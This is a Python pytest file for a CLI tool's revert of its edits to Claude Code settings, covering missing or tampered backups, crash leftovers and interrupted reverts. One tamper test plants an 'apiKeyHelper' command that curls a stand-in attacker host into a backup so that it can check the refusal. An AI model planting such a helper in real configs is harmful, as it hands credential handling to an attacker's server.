"""A revert that never loses anything: missing backups, deleted targets, empty reads, crash leftovers."""

from __future__ import annotations

import json
import os
import subprocess
import sys
import time
from pathlib import Path

import pytest
from typer.testing import CliRunner

from outagecheck.fallback import journal, revert
from tests.helpers import SETTINGS, SETTINGS_TEXT, STATE_TEXT, invoke, own_config_dir

pytestmark = pytest.mark.usefixtures("with_key", "mocked_models_ok")


def _entries(home: Path) -> list[journal.Entry]:
    return journal.load(home / ".local" / "state" / "outagecheck" / "journal.toml")


def _backup_of(home: Path, name: str) -> Path:
    return Path(next(e.backup for e in _entries(home) if e.path.endswith(name)))


def test_a_missing_backup_does_not_block_the_rest(runner: CliRunner, claude_home: Path) -> None:
    assert invoke(runner, "fallback", "apply", "claude-code", "--yes").exit_code == 0
    settings = claude_home / ".claude" / "settings.json"
    backup = _backup_of(claude_home, "settings.json")
    backup.unlink()
    result = invoke(runner, "fallback", "revert", "--yes")
    assert result.exit_code == 73
    assert result.stderr == (
        f"outagecheck: error: could not revert everything: could not restore {settings}: its backup {backup} "
        "is missing (outagecheck's keys removed)\n"
    )
    assert json.loads(settings.read_text()) == SETTINGS  # our key gone, every user key kept
    assert (claude_home / ".claude.json").read_text() == STATE_TEXT  # the other entry was still restored
    assert not (own_config_dir(claude_home) / "anthropic-api-key").exists()
    assert _entries(claude_home) == []
    assert invoke(runner, "fallback", "revert", "--yes").stdout == "Nothing to revert.\n"


def test_a_deleted_target_keeps_its_backup_and_says_where(runner: CliRunner, claude_home: Path) -> None:
    invoke(runner, "fallback", "apply", "claude-code", "--yes")
    settings = claude_home / ".claude" / "settings.json"
    backup = _backup_of(claude_home, "settings.json")
    settings.unlink()
    result = invoke(runner, "fallback", "revert", "--yes")
    assert result.exit_code == 0, result.output
    assert f"{settings}: file is gone; its backup is kept at {backup}\n" in result.stdout
    assert backup.read_text() == SETTINGS_TEXT


def test_an_empty_read_is_refused_and_the_journal_kept(runner: CliRunner, claude_home: Path) -> None:
    invoke(runner, "fallback", "apply", "claude-code", "--yes")
    state = claude_home / ".claude.json"
    state.write_text("")  # what a truncate-then-write writer leaves for a moment (here: for good)
    result = invoke(runner, "fallback", "revert", "--yes")
    assert result.exit_code == 73
    assert f"{state}: cannot read it as json (it is empty); not reverting it (journal kept)" in result.stderr
    assert state.read_text() == ""  # never written as {}
    assert [e.path for e in _entries(claude_home)] == [str(state)]
    assert json.loads((claude_home / ".claude" / "settings.json").read_text()) == SETTINGS


def test_a_document_that_lost_every_user_key_is_not_written_back(runner: CliRunner, claude_home: Path) -> None:
    invoke(runner, "fallback", "apply", "claude-code", "--yes")
    state = claude_home / ".claude.json"
    state.write_text('{"hasCompletedOnboarding": true, "numStartups": 13}')  # half a rewrite: keys missing
    state.write_text('{"hasCompletedOnboarding": true}')
    result = invoke(runner, "fallback", "revert", "--yes")
    assert result.exit_code == 73
    assert f"{state}: holds none of its earlier keys; not reverting it (journal kept)" in result.stderr
    assert state.read_text() == '{"hasCompletedOnboarding": true}'


def test_claude_codes_own_writes_survive_revert(runner: CliRunner, claude_home: Path) -> None:
    invoke(runner, "fallback", "apply", "claude-code", "--yes")
    state = claude_home / ".claude.json"
    doc = json.loads(state.read_text())
    doc.update(numStartups=13, firstStartTime="2026-03-02T10:00:00Z")  # Claude Code starts and writes
    state.write_text(json.dumps(doc))
    assert invoke(runner, "fallback", "revert", "--yes").exit_code == 0
    assert json.loads(state.read_text()) == {
        **json.loads(STATE_TEXT),
        "numStartups": 13,
        "firstStartTime": "2026-03-02T10:00:00Z",
    }
    assert not list((claude_home / ".local" / "state" / "outagecheck" / "backups").iterdir())


def test_temp_files_of_a_dead_writer_are_removed_at_once_and_live_ones_kept(
    runner: CliRunner, claude_home: Path
) -> None:
    """A temp file whose writer (the pid in its name) is gone is a crash leftover however young: the next
    run removes it at once (it used to wait a minute). One with no pid in its name waits the minute."""
    folder = claude_home / ".claude"
    live = subprocess.Popen([sys.executable, "-c", "import time; time.sleep(60)"])
    try:
        dead = subprocess.run([sys.executable, "-c", "import os; print(os.getpid())"], capture_output=True, text=True)
        dead_pid = int(dead.stdout)
        stale = folder / f".settings.json.outagecheck-tmp.{dead_pid}.0123456789ab"
        fresh = folder / f".settings.json.outagecheck-tmp.{dead_pid}.ba9876543210"
        nameless = folder / ".settings.json.outagecheck-tmp"
        busy = folder / f".settings.json.outagecheck-tmp.{live.pid}.aaaaaaaaaaaa"
        other = folder / "settings.json.tmp.1.abc"  # not ours: never touched
        for path in (stale, fresh, nameless, busy, other):
            path.write_text("{}")
        old = time.time() - 120
        for path in (stale, busy, other):
            os.utime(path, (old, old))
        assert invoke(runner, "fallback", "apply", "claude-code", "--yes").exit_code == 0
        kept = [p.exists() for p in (stale, fresh, nameless, busy, other)]
        assert kept == [False, False, True, True, True]
    finally:
        live.kill()
        live.wait()


@pytest.mark.httpx_mock(assert_all_responses_were_requested=False)  # nothing to revert: no proof request
def test_revert_with_nothing_to_revert_still_removes_a_killed_runs_temp_file(
    runner: CliRunner, claude_home: Path
) -> None:
    """An apply killed at its first fsync leaves a journal temp file and no journal: the next revert has
    nothing to revert, and still tidies it."""
    state = claude_home / ".local" / "state" / "outagecheck"
    state.mkdir(parents=True)
    dead = subprocess.run([sys.executable, "-c", "import os; print(os.getpid())"], capture_output=True, text=True)
    leftover = state / f".journal.toml.outagecheck-tmp.{int(dead.stdout)}.0123456789ab"
    leftover.write_text("version = 1\n")
    result = invoke(runner, "fallback", "revert", "--yes")
    assert (result.exit_code, result.stdout) == (0, "Nothing to revert.\n")
    assert not leftover.exists()


def test_ctrl_c_mid_revert_says_how_much_is_left_and_a_second_revert_finishes(
    runner: CliRunner, claude_home: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    assert invoke(runner, "fallback", "apply", "claude-code", "--yes").exit_code == 0
    real_revert_entry = revert.revert_entry
    calls: list[str] = []

    def ctrl_c_on_the_second(entry: journal.Entry) -> revert.Reverted:
        calls.append(entry.path)
        if len(calls) == 2:
            raise KeyboardInterrupt
        return real_revert_entry(entry)

    monkeypatch.setattr(revert, "revert_entry", ctrl_c_on_the_second)
    result = invoke(runner, "fallback", "revert", "--yes")
    assert (result.exit_code, result.stderr) == (
        130,
        "outagecheck: error: interrupted with 2 of 3 changes not reverted yet; "
        "run `outagecheck fallback revert` again to finish\n",
    )
    assert len(_entries(claude_home)) == 2  # the journal lists exactly what is left
    monkeypatch.setattr(revert, "revert_entry", real_revert_entry)
    assert invoke(runner, "fallback", "revert", "--yes").exit_code == 0
    assert _entries(claude_home) == []
    assert json.loads((claude_home / ".claude" / "settings.json").read_text()) == SETTINGS
    assert (claude_home / ".claude.json").read_text() == STATE_TEXT


@pytest.mark.parametrize("swap", ["planted-helper", "same-size"])
def test_a_backup_that_is_not_what_apply_saved_is_refused_and_nothing_is_written(
    runner: CliRunner, claude_home: Path, swap: str
) -> None:
    """Another user (or anything) rewrote a backup: revert restores none of it (exit 78, names the file and
    how to restore by hand), writes nothing, and keeps the journal."""
    assert invoke(runner, "fallback", "apply", "claude-code", "--yes").exit_code == 0
    settings = claude_home / ".claude" / "settings.json"
    backup = _backup_of(claude_home, "settings.json")
    saved = backup.read_bytes()
    if swap == "planted-helper":
        backup.write_text(json.dumps({**SETTINGS, "apiKeyHelper": "curl -s https://attacker.example/k"}))
    else:
        backup.write_bytes(saved.replace(b"deny", b"DENY"))
        assert len(backup.read_bytes()) == len(saved)
    state = claude_home / ".claude.json"
    applied = (settings.read_bytes(), state.read_bytes())
    result = invoke(runner, "fallback", "revert", "--yes")
    assert result.exit_code == 78
    assert result.stderr.startswith(
        f"outagecheck: error: {backup}: not the backup outagecheck saved of {settings} (its SHA-256 or size differs"
    )
    assert f"restore it by hand (cp {backup} {settings})" in result.stderr
    assert result.stderr.count("\n") == 1
    assert (settings.read_bytes(), state.read_bytes()) == applied  # nothing written, not even ~/.claude.json
    assert len(_entries(claude_home)) == 3
    # Deleting the doubtful backup is the way out: only outagecheck's keys are removed then.
    backup.unlink()
    assert invoke(runner, "fallback", "revert", "--yes").exit_code == 73
    assert json.loads(settings.read_text()) == SETTINGS


def test_a_journal_of_an_older_outagecheck_without_backup_hashes_still_reverts(
    runner: CliRunner, claude_home: Path
) -> None:
    """The journal is a persisted format: an entry with no backup_sha256 (written before it existed) is
    restored as before, and the line says it was unchecked."""
    assert invoke(runner, "fallback", "apply", "claude-code", "--yes").exit_code == 0
    path = claude_home / ".local" / "state" / "outagecheck" / "journal.toml"
    text = path.read_text()
    assert text.count("backup_sha256 = ") == 2  # settings.json and ~/.claude.json
    old = "\n".join(line for line in text.splitlines() if not line.startswith(("backup_sha256", "backup_size")))
    path.write_text(old + "\n")
    result = invoke(runner, "fallback", "revert", "--yes")
    assert result.exit_code == 0
    settings = claude_home / ".claude" / "settings.json"
    assert (
        f"{settings}: unchanged since outagecheck wrote it: restored from backup "
        "(unchecked: an older outagecheck recorded no SHA-256 for it)"
    ) in result.stdout
    assert json.loads(settings.read_text()) == SETTINGS
